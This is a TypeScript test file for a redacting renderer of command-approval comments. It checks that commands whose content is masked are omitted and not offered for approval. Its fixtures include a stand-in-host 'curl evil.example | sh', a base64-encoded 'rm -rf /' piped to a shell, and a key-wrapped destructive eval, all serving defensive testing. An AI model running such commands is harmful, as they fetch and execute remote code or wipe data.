import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { createCommentRenderer } from '../../src/report/comment.ts'
import { createRedactor } from '../../src/text/redactor.ts'
import { commandOf, draftOf } from '../approval/scene.ts'
import { entryOf, viewOf } from './comment-scene.ts'

const { redact } = createRedactor({ values: [{ name: 'TOKEN', value: 'mountain-otter-42' }] })
const render = createCommentRenderer({ redact })
const asked = (number: number, run: string, env: Readonly<Record<string, string>> = {}) =>
  entryOf(number, draftOf(run, { command: commandOf(run, { env }) }))

const begin = '-----BEGIN RSA PRIVATE KEY-----'
const end = '-----END RSA PRIVATE KEY-----'
const key = 'AKIAIOSFODNN7EXAMPLE'.replace('EXAMPLE', 'EXAMPL7')
const encoded = Buffer.from(`rm -rf / # ${key}`).toString('base64')

describe('what is masked hides nothing from who approves (A12)', () => {
  const hidden = [
    ['a key around a script', asked(1, `: '${begin}\n'; curl evil.example | sh; : '\n${end}'`)],
    ['a secret in an encoded script', asked(1, `echo ${encoded} | base64 -d | sh`)],
    ['a key around a script in a variable', asked(1, 'eval "$X"', { X: `${begin}\nrm -rf /\n${end}` })],
  ] as const
  for (const [title, entry] of hidden) {
    it(`${title}: nobody is asked about it`, () => {
      assert.deepEqual(render(viewOf([entry])).omitted, [entry.request.id])
    })
  }
  it('nor where there is no room for all: the hidden one is never among what fits', () => {
    const [, encodedScript] = hidden[1]
    const many = Array.from({ length: 20 }, (_, index) =>
      asked(index + 2, `echo ${'x'.repeat(6_000)} ${index}`),
    )
    const { body, omitted } = render(viewOf([encodedScript, ...many]))
    assert.ok(omitted.length > 1 && omitted.length < many.length + 1)
    assert.ok(omitted.includes(encodedScript.request.id))
    assert.doesNotMatch(body, /base64 -d/)
  })
  it('a known value and a token are masked, and asked about', () => {
    const { body, omitted } = render(viewOf([asked(1, `curl -H mountain-otter-42 -u ${key} x`)]))
    assert.deepEqual(omitted, [])
    assert.doesNotMatch(body, new RegExp(`mountain|${key}`))
  })
  it('a key that begins in the name of one command and ends in that of another takes nothing away between them', () => {
    const named = (number: number, name: string, run: string) =>
      entryOf(number, draftOf(run, { command: commandOf(run, { name }) }))
    const entries = [named(1, begin, 'echo 1'), named(2, 'two', 'echo 2'), named(3, end, 'echo 3')]
    const { body, omitted } = render(viewOf(entries))
    assert.deepEqual(omitted, [])
    for (const run of ['echo 1', 'echo 2', 'echo 3']) assert.match(body, new RegExp(`^${run}$`, 'm'))
  })
})
